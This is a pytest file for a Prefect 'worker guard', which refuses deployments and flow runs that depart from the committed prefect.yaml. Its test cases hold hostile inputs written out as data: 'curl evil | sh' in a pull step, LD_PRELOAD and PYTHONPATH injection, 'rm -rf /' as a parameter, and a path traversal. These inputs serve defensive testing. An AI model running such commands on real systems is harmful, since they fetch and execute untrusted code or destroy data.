"""The worker guard's check (flows/worker_guard.py) against the committed prefect.yaml, and the locked
pool template as Prefect's own process worker renders it. Real server and worker:
tests/integration/test_deployment_server.py."""

from __future__ import annotations

import asyncio
import copy
import shlex
from pathlib import Path

import pytest
import yaml

from flows.worker_guard import Guard, committed_deployments, is_locked, locked_template, refusal



@pytest.fixture(scope="module")
def guard(repo_root):
    return Guard(repo_root, home_root=Path("/srv"))


def deployed(guard: Guard, name: str = "train") -> dict:
    """What ``prefect deploy`` stores for ``name``: the committed fields, placeholders filled."""
    want = guard.committed[name]
    return {"name": name, "entrypoint": want["entrypoint"], "work_pool_name": want["work_pool_name"],
            "pull_steps": copy.deepcopy(want["pull_steps"]), "job_variables": copy.deepcopy(want["job_variables"])}


def run(params: dict | None = None, **job_variables) -> dict:
    return {"parameters": {"params": params or {}}, "job_variables": job_variables}


def test_every_committed_deployment_passes_with_its_own_parameters(guard, repo_root):
    spec = yaml.safe_load((repo_root / "prefect.yaml").read_text())
    assert sorted(guard.committed) == sorted(d["name"] for d in spec["deployments"])
    for dep in spec["deployments"]:
        params = (dep.get("parameters") or {}).get("params", {})
        assert guard.check(run(params, env={"TRAINFLOW_HOME": "/srv/state"}), deployed(guard, dep["name"])) is None
    # prefect deploy filled the checkout into the pull step; so does the guard
    directory = guard.committed["train"]["pull_steps"][0]["prefect.deployments.steps.set_working_directory"]
    assert directory == {"directory": str(repo_root)}


@pytest.mark.parametrize("change, reason", [
    (lambda d: d.update(name="evil"), "deployment 'evil' is not in prefect.yaml"),
    (lambda d: d.update(entrypoint="evil.py:flow"), "deployment 'train': entrypoint 'evil.py:flow' differs from"),
    (lambda d: d.update(work_pool_name="other"), "deployment 'train': work pool 'other' differs"),
    (lambda d: d["pull_steps"].append({"prefect.deployments.steps.run_shell_script": {"script": "touch /tmp/x"}}),
     "deployment 'train': pull step 3 differs from prefect.yaml"),
    (lambda d: d["pull_steps"][1]["prefect.deployments.steps.run_shell_script"].update(script="curl evil | sh"),
     "deployment 'train': pull step 2 differs from prefect.yaml"),
    (lambda d: d["job_variables"].update(env={"LD_PRELOAD": "/tmp/x.so"}),
     "deployment 'train': job variable 'env' differs from prefect.yaml"),
])
def test_a_deployment_that_differs_from_the_committed_one_is_refused_naming_the_field(guard, change, reason):
    dep = deployed(guard)
    change(dep)
    assert guard.check(run(), dep).startswith(reason)


@pytest.mark.parametrize("job_variables, reason", [
    ({"env": {"PYTHONPATH": "/tmp/evil"}}, "job variable env.PYTHONPATH is not allowed in a flow run"),
    ({"env": {"TRAINFLOW_HOME": "/x", "LD_PRELOAD": "/tmp/x.so"}}, "job variable env.LD_PRELOAD is not allowed"),
    ({"command": "touch /tmp/x"}, "job variable 'command' is not allowed in a flow run"),
    ({"working_dir": "/tmp"}, "job variable 'working_dir' is not allowed"),
    ({"env.PYTHONPATH": "/tmp/evil"}, "job variable 'env.PYTHONPATH' is not allowed"),
])
def test_a_run_s_own_job_variables_are_allow_listed(guard, job_variables, reason):
    assert guard.check(run(**job_variables), deployed(guard)).startswith(reason)


def test_an_allowed_state_folder_does_not_let_the_job_variables_after_it_through(guard):
    # env first, with a TRAINFLOW_HOME inside --home-root: the command after it is still refused.
    job_variables = {"env": {"TRAINFLOW_HOME": "/srv/state"}, "command": "touch /tmp/x"}
    assert list(job_variables) == ["env", "command"]
    assert guard.check(run(**job_variables), deployed(guard)).startswith(
        "job variable 'command' is not allowed in a flow run")


@pytest.mark.parametrize("home, reason", [
    ("/srv/teams/a/state", None),
    ("/srv/../etc/state", "job variable env.TRAINFLOW_HOME '/srv/../etc/state' is not inside the worker's --home-root"),
    ("/home/someone/.trainflow", "job variable env.TRAINFLOW_HOME '/home/someone/.trainflow' is not inside the "
                                 "worker's --home-root '/srv'"),
    ("state", "job variable env.TRAINFLOW_HOME 'state' is not inside"),
])
def test_a_run_s_state_folder_lies_inside_the_worker_s_home_root(guard, home, reason):
    got = guard.check(run(env={"TRAINFLOW_HOME": home}), deployed(guard))
    assert got == reason if reason is None else got.startswith(reason), got


def test_without_a_home_root_a_run_may_not_choose_its_state_folder(repo_root):
    got = Guard(repo_root).check(run(env={"TRAINFLOW_HOME": "/srv/x"}), deployed(Guard(repo_root)))
    assert got.startswith("job variable env.TRAINFLOW_HOME is not allowed in a flow run: this worker has no --home-root")


def test_parameters_are_checked_against_the_flow_s_typed_signature_not_the_server_s_schema(guard):
    reason = guard.check(run({"overrides": ["dataset.path=/etc"]}), deployed(guard))
    assert reason.startswith("parameters: ") and "overrides: not a run parameter" in reason
    assert "nproc_per_node" in guard.check(run({"nproc_per_node": 0}), deployed(guard))
    extra = guard.check({"parameters": {"params": {}, "script": "rm -rf /"}}, deployed(guard))
    assert extra.startswith("parameters: ") and "script" in extra
    assert "flow run has no deployment" in refusal(run(), None, guard.committed, "prefect.yaml")


def test_placeholders_are_filled_only_from_the_guard_s_values(tmp_path):
    (tmp_path / "prefect.yaml").write_text(yaml.safe_dump({"deployments": [{
        "name": "gpu", "entrypoint": "flows/pipeline.py:pipeline",
        "pull": [{"git_clone": {"repository": "{{ $REPO }}", "commit_sha": "{{ $SHA }}"}}],
        "work_pool": {"name": "k8s", "job_variables": {"image": "{{ $IMAGE }}"}}}]}))
    got = committed_deployments(tmp_path / "prefect.yaml", {"REPO": "https://git.example/t.git", "IMAGE": "img@sha256:1"})
    assert got["gpu"]["pull_steps"] == [{"git_clone": {"repository": "https://git.example/t.git",
                                                       "commit_sha": "{{ $SHA }}"}}]  # unset stays literal
    assert got["gpu"]["job_variables"] == {"image": "img@sha256:1"}


def test_the_locked_template_fixes_command_and_working_directory_as_prefect_renders_it(guard, repo_root):
    """Prefect's process worker builds the job from the pool's template and the run's job variables:
    the run's ``command`` and ``working_dir`` fill nothing, so the guard is what runs. Its ``env`` is
    merged in by design, which is why the guard checks it."""
    from prefect.settings import PREFECT_API_URL, temporary_settings
    from prefect.workers.process import ProcessJobConfiguration, ProcessWorker

    template = locked_template(guard, python="/opt/venv/bin/python")
    assert is_locked(template) and not is_locked(ProcessWorker.get_default_base_job_template())
    values = {"command": "touch /tmp/pwned", "working_dir": "/tmp", "env": {"PYTHONPATH": "/tmp/evil"}}
    with temporary_settings({PREFECT_API_URL: "http://127.0.0.1:9/api"}):  # no server: nothing to resolve
        config = asyncio.run(ProcessJobConfiguration.from_template_and_values(template, values))
    argv = shlex.split(config.command)
    assert argv[:4] == ["/opt/venv/bin/python", "-I", "-m", "flows.worker_guard"]
    assert argv[argv.index("--repo") + 1] == str(repo_root)
    assert str(config.working_dir) == str(repo_root)
    assert config.env["PYTHONPATH"] == "/tmp/evil"  # Prefect merges it: the guard refuses such a run
    assert {"command", "working_dir"}.isdisjoint(template["variables"]["properties"])
